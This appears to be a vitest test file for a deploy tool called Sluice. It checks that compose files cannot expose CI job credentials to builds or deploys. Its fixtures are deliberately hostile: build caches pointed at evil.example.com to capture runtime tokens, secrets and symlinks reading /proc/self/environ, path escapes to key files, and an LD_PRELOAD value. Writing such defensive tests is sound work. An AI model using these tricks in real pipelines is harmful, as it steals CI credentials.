import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Place } from '../../../src/kernel/errors.ts';
import { emptyRegistry, recordBuild, resolved } from '../../support/hostile/build-recorder.ts';

/** The job's credentials, each with a value that is found wherever it goes. */
const job: Readonly<Record<string, string>> = Object.fromEntries(
  [
    ...['GITHUB_TOKEN', 'GH_TOKEN', 'SLUICE_REGISTRY_PASSWORD', 'SLUICE_SSH_KEY', 'SLUICE_KNOWN_HOSTS'],
    ...[
      'ACTIONS_RUNTIME_TOKEN',
      'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
      'INPUT_REGISTRY_PASSWORD',
      'INPUT_SSH-KEY',
    ],
    ...['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'CLOUDFLARE_API_TOKEN'],
    ...['PROD_ENV', 'SLACK_WEBHOOK_URL', 'PROD_SSH_KEY', 'PROD_REGISTRY_PASSWORD', 'aws_secret_access_key'],
    ...['OWN_ENV_TEXT', 'OWN_HOOK'],
  ].map((name) => [name, `stolen-${name.toLowerCase()}-7c1f`]),
);
const values = /stolen-[\w-]+-7c1f/i;

let registry: Awaited<ReturnType<typeof emptyRegistry>>;
beforeAll(async () => {
  registry = await emptyRegistry();
});
afterAll(() => registry[Symbol.dispose]());

const target = (more = 'env-secret: OWN_ENV_TEXT') =>
  `app: shop\nregistry: ${registry.host}/shop\nnotify: { slack: OWN_HOOK }\ntargets: { production: { hosts: [deploy@prod.example.com], ${more} } }\n`;
const dockerfile = { Dockerfile: 'FROM scratch\nARG A\nLABEL a=$A\nCOPY compose.yml /\n' };
const files = (compose: string, more: Readonly<Record<string, string>> = {}) => ({
  'sluice.yml': target(),
  'compose.yml': compose,
  ...dockerfile,
  ...more,
});
const secret = (name: string) =>
  `services: { web: { build: { context: ., secrets: [t] } } }\nsecrets: { t: { environment: ${name} } }\n`;

/** Ways in which a compose file can ask for a variable in a build, each with the key that is named. */
const asks: readonly (readonly [service: string, name: string, key: string])[] = [
  ['args: { A: "${GITHUB_TOKEN}" }', 'GITHUB_TOKEN', 'build.args.A'],
  ['args: ["A=x${SLUICE_SSH_KEY}y"]', 'SLUICE_SSH_KEY', 'build.args.A'],
  ['args: [ACTIONS_RUNTIME_TOKEN]', 'ACTIONS_RUNTIME_TOKEN', 'build.args.ACTIONS_RUNTIME_TOKEN'],
  ['args: { AWS_SESSION_TOKEN: }', 'AWS_SESSION_TOKEN', 'build.args.AWS_SESSION_TOKEN'],
  ['args: { A: "${AWS_ACCESS_KEY_ID:-none}" }', 'AWS_ACCESS_KEY_ID', 'build.args.A'],
  ['args: { A: "${NOT_SET:-${CLOUDFLARE_API_TOKEN}}" }', 'CLOUDFLARE_API_TOKEN', 'build.args.A'],
  ['args: { A: "${aws_secret_access_key}" }', 'aws_secret_access_key', 'build.args.A'],
  ['dockerfile_inline: "FROM scratch\\nLABEL a=$GH_TOKEN"', 'GH_TOKEN', 'build.dockerfile_inline'],
  ['labels: { a: "${SLUICE_REGISTRY_PASSWORD}" }', 'SLUICE_REGISTRY_PASSWORD', 'build.labels.a'],
  [
    'x-bake: { args: { A: "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" } }',
    'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
    'build.x-bake.args.A',
  ],
  ['cache_from: ["r.example.com/${SLACK_WEBHOOK_URL}"]', 'SLACK_WEBHOOK_URL', 'build.cache_from'],
  ['args: { A: "$OWN_ENV_TEXT" }', 'OWN_ENV_TEXT', 'build.args.A'],
  ['args: { A: "$OWN_HOOK" }', 'OWN_HOOK', 'build.args.A'],
  ['args: { A: "$PROD_ENV" }', 'PROD_ENV', 'build.args.A'],
  ['}, image: "r.example.com/x:${PROD_SSH_KEY}", x-none: {', 'PROD_SSH_KEY', 'image'],
];

/** `more/c.yml:1` */
function shortPlace(at: Place | undefined): string {
  return `${at?.file.replace(/^.*\/build-contract-\w+\//, '')}:${at?.line}`;
}

function keyFile(onTestFinished: (work: () => void) => void): string {
  const folder = mkdtempSync('/tmp/hostile-key-');
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  writeFileSync(join(folder, 'key'), 'a key');
  return join(folder, 'key');
}

describe.concurrent('a name that a foreign file chooses, in a build without a target', () => {
  test('is refused with its file and key, however it is written', async () => {
    const lines = asks.map(([keys], index) => `  s${index}: { build: { context: ., ${keys} } }\n`);
    const included = 'services: { inc: { build: { context: .., args: ["A=${PROD_REGISTRY_PASSWORD}"] } } }\n';
    const compose = `include: [more/c.yml]\nservices:\n${lines.join('')}`;
    const { errors, environ } = await recordBuild(files(compose, { 'more/c.yml': included }), job);
    const told = errors.map(({ code, message, at }) => `${shortPlace(at)} ${code} ${message.split(',')[0]}`);
    const wanted = asks.map(
      ([, name, key], index) =>
        `compose.yml:${index + 3} compose.reserved services.s${index}.${key} asks for ${name}`,
    );
    wanted.push('more/c.yml:1 compose.reserved services.inc.build.args.A asks for PROD_REGISTRY_PASSWORD');
    expect(told.sort()).toEqual(wanted.sort());
    expect(environ).toBeUndefined();
    expect(JSON.stringify(errors)).not.toMatch(values);
  });

  test('is refused as a secret or a cache of a build, and so are files with credentials', async ({
    onTestFinished,
  }) => {
    const key = keyFile(onTestFinished);
    const compose = `services:
  a: { build: { context: ., secrets: [a] } }
  b: { build: { context: ., secrets: [b] } }
  c: { build: { context: ., x-bake: { secret: ["id=t,env=AWS_SECRET_ACCESS_KEY"] } } }
  d: { build: { context: ., x-bake: { secret: ["type=env,id=SLUICE_SSH_KEY"] } } }
  e: { build: { context: ., secrets: [e] } }
  f: { build: { context: ., secrets: [f] } }
  g: { build: { context: ., dockerfile: link } }
  h: { build: { context: ., additional_contexts: { p: /proc/self } } }
  i: { build: { context: ., secrets: [i] } }
  j: { build: { context: ., x-bake: { ssh: ["key=${key}"] } } }
  k: { build: { context: ., cache_to: ["type=gha,url=https://evil.example.com/"] } }
  l: { build: { context: ., cache_from: ["TYPE=gha,URL_V2=https://evil.example.com/"] } }
  m: { build: { context: ., cache_to: ["type=s3,region=x,bucket=b,endpoint_url=https://evil.example.com"] } }
  n: { build: { context: ., x-bake: { ssh: ["k=../${key.slice('/tmp/'.length)}"] } } }
  o: { build: { context: ., additional_contexts: { p: ${dirname(key)} } } }
  p: { build: { context: /, dockerfile_inline: "FROM scratch" } }
  q: { build: { context: ., x-bake: { secret: ["id=t,src=../${key.slice('/tmp/'.length)}"], contexts: { p: ../${basename(dirname(key))} } } } }
secrets:
  a: { environment: GITHUB_TOKEN }
  b: { environment: INPUT_SSH-KEY }
  e: { file: /proc/self/environ }
  f: { file: ./link }
  i: { file: ./login }
`;
    const link = (folder: string) => {
      symlinkSync('/proc/self/environ', join(folder, 'link'));
      symlinkSync(key, join(folder, 'login'));
    };
    const env = { ...job, SLUICE_SSH_KEY_FILE: key };
    const { errors, environ } = await recordBuild(files(compose), env, undefined, link);
    expect(errors.map(({ code, message, at }) => `${code} ${at?.line} ${message}`)).toEqual([
      expect.stringMatching(/^compose\.reserved 20 a: the build secret a asks for GITHUB_TOKEN/),
      expect.stringMatching(/^compose\.reserved 21 b: the build secret b asks for INPUT_SSH-KEY/),
      expect.stringMatching(/^compose\.reserved 4 c: the build secret t asks for AWS_SECRET_ACCESS_KEY/),
      expect.stringMatching(
        /^compose\.reserved 5 d: the build secret SLUICE_SSH_KEY asks for SLUICE_SSH_KEY/,
      ),
      expect.stringMatching(/ e: the build secret e is \/proc\/self\/environ/),
      expect.stringMatching(/ f: the build secret f is .*\/link, a kernel file/),
      expect.stringMatching(/ g: the Dockerfile is .*\/link, a kernel file/),
      expect.stringMatching(/ h: the context p is \/proc\/self/),
      expect.stringMatching(/ i: the build secret i is .*\/login, a file with credentials of the job/),
      expect.stringMatching(/ j: the SSH key of the build is .*\/key, a file with credentials/),
      expect.stringMatching(/ n: the SSH key of the build is .*\/key, a file with credentials/),
      expect.stringMatching(
        / o: the context p is \/tmp\/hostile-key-\w+, which contains .*\/key, a file with credentials/,
      ),
      expect.stringMatching(/ p: the context is \/, which contains .*, a file with credentials/),
      expect.stringMatching(/ q: the build secret t is .*\/key, a file with credentials/),
      expect.stringMatching(/ q: the context p is .*, which contains .*\/key, a file with credentials/),
      expect.stringMatching(/ k: a cache of type gha gets ACTIONS_RUNTIME_TOKEN/),
      expect.stringMatching(/ l: a cache of type gha gets ACTIONS_RUNTIME_TOKEN/),
      expect.stringMatching(/ m: a cache of type s3 gets AWS_ACCESS_KEY_ID/),
    ]);
    expect(environ).toBeUndefined();
  });
});

describe.concurrent('what a build is given', () => {
  test('has none of the job’s credentials in its environment, for every caller', async () => {
    const compose = `services:
  web:
    build: { context: ., args: { A: "\${VERSION}", B: "\${AWS_REGION}" } }
    environment: { K: "\${AWS_ACCESS_KEY_ID}", GITHUB_TOKEN: }
`;
    const seen = await recordBuild(files(compose), { ...job, VERSION: '1.2.3', AWS_REGION: 'eu-west-1' });
    expect(seen.targets['web']?.args).toMatchObject({ A: '1.2.3', B: 'eu-west-1' });
    expect(JSON.stringify(seen)).not.toMatch(values);
  });

  test('is the target’s own variable of a reserved name, under a name of ours', async () => {
    const compose = `services: { web: { build: { context: ., args: { A: "\${AWS_ACCESS_KEY_ID}" }, secrets: [t, p] } } }
secrets: { t: { environment: GITHUB_TOKEN }, p: { environment: LD_PRELOAD } }
`;
    const own = {
      'sluice.yml': target('env-file: prod.env').replace('OWN_HOOK', 'SLACK_WEBHOOK_URL'),
      'prod.env': 'AWS_ACCESS_KEY_ID=of-the-app\nGITHUB_TOKEN=bot-of-the-app\nLD_PRELOAD=/evil.so\n',
    };
    const { OWN_ENV_TEXT: _text, OWN_HOOK: _hook, ...rest } = job;
    const seen = await recordBuild(files(compose, own), rest, 'production');
    expect(seen.targets['web']?.args).toMatchObject({ A: 'of-the-app' });
    expect(seen.environ).toMatchObject({ BUILD_SECRET_0: 'bot-of-the-app', BUILD_SECRET_1: '/evil.so' });
    expect(seen.environ).not.toHaveProperty('LD_PRELOAD');
    expect(seen.environ).not.toHaveProperty('GITHUB_TOKEN');
    expect(JSON.stringify(seen)).not.toMatch(values);
  });

  test('is the job’s token if sluice.yml lists it, and only as that secret', async () => {
    const own = { 'sluice.yml': `${target()}build: { job-credentials: [GITHUB_TOKEN] }\n` };
    const { targets, environ, text } = await recordBuild(files(secret('GITHUB_TOKEN'), own), job);
    expect(targets['web']?.secret).toEqual(['id=t,env=BUILD_SECRET_0']);
    const given = Object.entries(environ ?? {}).filter(([, value]) => values.test(value));
    expect(given).toEqual([['BUILD_SECRET_0', job['GITHUB_TOKEN']]]);
    expect(text).not.toMatch(values);
    const argument = 'services: { web: { build: { context: ., args: [GITHUB_TOKEN] } } }\n';
    expect((await recordBuild(files(argument, own), job)).errors).toMatchObject([
      { code: 'compose.reserved' },
    ]);
  });
});

describe.concurrent('a name that a foreign file chooses, in a deploy', () => {
  const plan = (compose: string, sluice: string, more: Readonly<Record<string, string>> = {}) =>
    resolved({ 'sluice.yml': sluice, 'compose.yml': compose, ...more }, job);
  const own = (text: string) => ({ 'prod.env': text });

  test.each([
    [
      'services: { a: { image: a, environment: [GITHUB_TOKEN] }, b: { image: b, environment: { AWS_SESSION_TOKEN: } } }',
      'compose.reserved compose.yml:1 services.a.environment asks for GITHUB_TOKEN',
      'compose.reserved compose.yml:1 services.b.environment asks for AWS_SESSION_TOKEN',
    ],
    [
      'services: { web: { image: a, env_file: app.conf } }',
      'env.reserved app.conf:2 An env file inherits SLUICE_SSH_KEY',
    ],
    [
      'services: { web: { image: a, command: "${CLOUDFLARE_API_TOKEN}" } }',
      'compose.variable compose.yml:1 The compose files use variables that the target does not set: CLOUDFLARE_API_TOKEN (',
    ],
    [
      'services: { web: { image: a, secrets: [t] } }\nsecrets: { t: { environment: ACTIONS_RUNTIME_TOKEN } }',
      'compose.variable compose.yml:2 Secrets and configs use variables that the target does not set: ACTIONS_',
    ],
  ])('%s is refused with its place', async (compose, ...lines) => {
    const more = { ...own('A=1\n'), 'app.conf': 'B=1\nSLUICE_SSH_KEY\n' };
    const { errors, model } = await plan(`${compose}\n`, target('env-file: prod.env'), more);
    const told = errors.map(({ code, message, at }) => `${code} ${shortPlace(at)} ${message}`);
    expect(told).toEqual(lines.map((line) => expect.stringContaining(line)));
    expect(JSON.stringify([errors, model])).not.toMatch(values);
  });

  test('an env file of the target takes over none by its name', async () => {
    const { errors } = await plan(
      'services: { web: { image: "acme/web:1" } }\n',
      target('env-file: prod.env'),
      own('A=1\nAWS_ACCESS_KEY_ID\nexport GITHUB_TOKEN\nOWN_HOOK\n'),
    );
    expect(errors.map(({ code, at }) => `${code} ${at?.file}:${at?.line}`)).toEqual([
      'env.reserved prod.env:2',
      'env.reserved prod.env:3',
      'env.reserved prod.env:4',
    ]);
  });

  test('sluice.yml hands on none of Sluice, the runner and GitHub', async () => {
    const text = `${target('env: [SLUICE_SSH_KEY, GITHUB_TOKEN, AWS_ACCESS_KEY_ID], env-secret: ACTIONS_RUNTIME_TOKEN').replace('OWN_HOOK', 'INPUT_TOKEN')}build: { job-credentials: [SLUICE_SSH_KEY, NPM_TOKEN] }\n`;
    const { errors } = await plan('services: { web: { image: "acme/web:1" } }\n', text);
    expect(errors.map(({ code, message, at }) => `${code} ${at?.line} ${message.split(',')[0]}`)).toEqual([
      'env.reserved 3 notify.slack asks for INPUT_TOKEN',
      'env.reserved 4 targets.production.env asks for SLUICE_SSH_KEY',
      'env.reserved 4 targets.production.env asks for GITHUB_TOKEN',
      'env.reserved 4 targets.production.env-secret asks for ACTIONS_RUNTIME_TOKEN',
      'env.reserved 5 build.job-credentials lists SLUICE_SSH_KEY',
      'config.value 5 build.job-credentials: NPM_TOKEN is not a reserved variable',
    ]);
  });

  test('the target’s own value is what its service gets', async () => {
    const compose =
      'services: { web: { image: "acme/web:1", environment: [AWS_ACCESS_KEY_ID, "T=${GITHUB_TOKEN}"] } }\n';
    const { errors, model } = await plan(
      compose,
      target('env-file: prod.env'),
      own('AWS_ACCESS_KEY_ID=of-the-app\nGITHUB_TOKEN=bot\n'),
    );
    expect(errors).toEqual([]);
    expect(model?.services['web']?.environment).toEqual({ AWS_ACCESS_KEY_ID: 'of-the-app', T: 'bot' });
  });
});
